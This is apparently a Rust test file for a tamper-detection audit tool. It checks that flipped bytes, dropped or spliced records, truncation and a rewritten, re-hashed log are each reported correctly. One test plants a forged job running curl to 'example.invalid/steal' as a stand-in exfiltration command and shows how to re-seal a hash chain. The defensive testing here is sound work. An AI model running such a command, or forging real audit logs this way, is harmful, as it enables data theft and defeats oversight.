//! Each way of tampering with a log is caught, with exit status 1, the seq
//! it concerns and the right reason; a cut-short tail is reported as
//! truncation, not tampering.

use skyclaw_log_format::{ChainHead, Event, Payload, Record};

use crate::util::*;

const RECORDS: u64 = 400;
/// The record tampered with.
const TARGET: u64 = 217;

fn log() -> (tempfile::TempDir, Vec<Record>, Vec<u8>) {
    let records = synthetic(RECORDS);
    let bytes = segment(CLUSTER, &records);
    (tempfile::tempdir().unwrap(), records, bytes)
}

fn last_head(records: &[Record]) -> ChainHead {
    records.last().unwrap().head()
}

/// Writes `bytes`, verifies them and returns the finding's kind and seq.
fn check(dir: &tempfile::TempDir, bytes: &[u8]) -> (String, Option<u64>, String) {
    let path = write(dir.path(), "tampered.seg", bytes);
    finding_of(&path, &[])
}

#[test]
fn a_byte_flipped_in_an_event() {
    let (dir, records, mut bytes) = log();
    let event_start =
        record_offset(CLUSTER, &records, TARGET) + skyclaw_log_format::RECORD_HEADER_LEN;
    bytes[event_start + 3] ^= 0x01;
    let (kind, seq, reason) = check(&dir, &bytes);
    assert_eq!(
        (kind.as_str(), seq),
        ("hashMismatch", Some(TARGET)),
        "{reason}"
    );
}

#[test]
fn a_byte_flipped_in_a_hash() {
    let (dir, records, mut bytes) = log();
    bytes[record_offset(CLUSTER, &records, TARGET) + HASH_FIELD + 7] ^= 0x80;
    let (kind, seq, _) = check(&dir, &bytes);
    assert_eq!((kind.as_str(), seq), ("hashMismatch", Some(TARGET)));
}

#[test]
fn a_byte_flipped_in_a_record_header() {
    let (dir, records, mut bytes) = log();
    bytes[record_offset(CLUSTER, &records, TARGET) + AT_FIELD + 7] ^= 0x04;
    let (kind, seq, _) = check(&dir, &bytes);
    assert_eq!((kind.as_str(), seq), ("hashMismatch", Some(TARGET)));
}

#[test]
fn a_byte_flipped_in_the_segment_header() {
    let (dir, _, mut bytes) = log();
    // Inside the cluster id, which the header's check covers.
    bytes[15] ^= 0x20;
    let (kind, seq, reason) = check(&dir, &bytes);
    assert_eq!((kind.as_str(), seq), ("corrupt", None));
    assert!(reason.contains("header"), "{reason}");
}

#[test]
fn a_record_dropped() {
    let (dir, records, _) = log();
    let mut tampered = records.clone();
    tampered.remove((TARGET - 1) as usize);
    let bytes = assemble(CLUSTER, &tampered, last_head(&records), RECORDS);
    let (kind, seq, reason) = check(&dir, &bytes);
    assert_eq!((kind.as_str(), seq), ("seqGap", Some(TARGET)), "{reason}");
}

#[test]
fn a_record_duplicated() {
    let (dir, records, _) = log();
    let mut tampered = records.clone();
    tampered.insert(TARGET as usize, records[(TARGET - 1) as usize].clone());
    let bytes = assemble(CLUSTER, &tampered, last_head(&records), RECORDS);
    let (kind, seq, _) = check(&dir, &bytes);
    assert_eq!((kind.as_str(), seq), ("seqGap", Some(TARGET + 1)));
}

#[test]
fn a_record_swapped_with_its_neighbour() {
    let (dir, records, _) = log();
    let mut tampered = records.clone();
    tampered.swap((TARGET - 1) as usize, TARGET as usize);
    let bytes = assemble(CLUSTER, &tampered, last_head(&records), RECORDS);
    let (kind, seq, _) = check(&dir, &bytes);
    assert_eq!((kind.as_str(), seq), ("seqGap", Some(TARGET)));
}

#[test]
fn the_tail_cut_mid_record_is_truncation() {
    let (dir, records, bytes) = log();
    let cut = record_offset(CLUSTER, &records, TARGET) + 40;
    let path = write(dir.path(), "cut.seg", &bytes[..cut]);
    let (kind, seq, reason) = finding_of(&path, &[]);
    assert_eq!(
        (kind.as_str(), seq),
        ("truncated", Some(TARGET - 1)),
        "{reason}"
    );

    let human = audit(&["verify", path.to_str().unwrap()]);
    assert_eq!(human.code, 1);
    assert!(human.stdout.contains("TRUNCATED"), "{}", human.stdout);
    assert!(!human.stdout.contains("VIOLATION"), "{}", human.stdout);
}

#[test]
fn the_trailer_cut_off_is_truncation() {
    let (dir, _, bytes) = log();
    let (kind, seq, _) = check(&dir, &bytes[..bytes.len() - TRAILER_LEN]);
    assert_eq!((kind.as_str(), seq), ("truncated", Some(RECORDS)));
}

#[test]
fn a_record_spliced_in_from_another_cluster() {
    let (dir, records, _) = log();
    let theirs = synthetic_for("other-cluster", RECORDS);
    let mut tampered = records.clone();
    tampered[(TARGET - 1) as usize] = theirs[(TARGET - 1) as usize].clone();
    let bytes = assemble(CLUSTER, &tampered, last_head(&records), RECORDS);
    let (kind, seq, reason) = check(&dir, &bytes);
    assert_eq!((kind.as_str(), seq), ("hashMismatch", Some(TARGET)));
    assert!(reason.contains("another cluster"), "{reason}");
}

/// The log with record `seq`'s event replaced by `event` and every record
/// from it on sealed again: a chain that verifies on its own.
pub fn rewritten(cluster_id: &str, records: &[Record], seq: u64, event: Vec<u8>) -> Vec<Record> {
    let mut out = records[..(seq - 1) as usize].to_vec();
    let mut prev = out.last().unwrap().hash;
    for old in &records[(seq - 1) as usize..] {
        let bytes = if old.seq == seq {
            event.clone()
        } else {
            old.event.clone()
        };
        let record = Record::seal(cluster_id, old.seq, old.at, old.origin, prev, bytes);
        prev = record.hash;
        out.push(record);
    }
    out
}

#[test]
fn a_rewritten_and_rehashed_log_is_caught_by_a_pinned_head() {
    let (dir, records, _) = log();
    // A job's command rewritten: the replay accepts the forged event, and
    // the chain, sealed again, verifies.
    let (target, mut spec) = records[TARGET as usize..]
        .iter()
        .find_map(|record| match record.decode_event().unwrap() {
            Event::JobEnqueued(spec) => Some((record.clone(), spec)),
            _ => None,
        })
        .unwrap();
    spec.payload = Payload::Shell {
        command: "curl".into(),
        args: vec!["https://example.invalid/steal".into()],
        cwd: None,
        env: Default::default(),
        timeout_ms: None,
    };
    let forged = rewritten(
        CLUSTER,
        &records,
        target.seq,
        Event::JobEnqueued(spec).encode(),
    );
    let path = write(dir.path(), "forged.seg", &segment(CLUSTER, &forged));
    assert_eq!(audit(&["verify", path.to_str().unwrap()]).code, 0);

    // A head pinned before the forgery exposes it.
    let pin = format!("{RECORDS}:{}", records.last().unwrap().hash);
    let (kind, seq, reason) = finding_of(&path, &["--expect-head", &pin]);
    assert_eq!(
        (kind.as_str(), seq),
        ("headMismatch", Some(RECORDS)),
        "{reason}"
    );

    // So does a pin on the rewritten record itself.
    let pin = format!("{}:{}", target.seq, target.hash);
    let (kind, seq, _) = finding_of(&path, &["--expect-head", &pin]);
    assert_eq!((kind.as_str(), seq), ("headMismatch", Some(target.seq)));

    // A pin before it still holds.
    let before = &records[(target.seq - 2) as usize];
    let pin = format!("{}:{}", before.seq, before.hash);
    assert_eq!(
        audit(&["verify", path.to_str().unwrap(), "--expect-head", &pin]).code,
        0
    );
}

#[test]
fn a_log_cut_short_of_a_pinned_head_is_caught() {
    let (dir, records, _) = log();
    let path = write(dir.path(), "short.seg", &segment(CLUSTER, &records[..300]));
    let pin = format!("{RECORDS}:{}", records.last().unwrap().hash);
    let (kind, seq, reason) = finding_of(&path, &["--expect-head", &pin]);
    assert_eq!((kind.as_str(), seq), ("headMismatch", Some(RECORDS)));
    assert!(reason.contains("ends at record 300"), "{reason}");
}
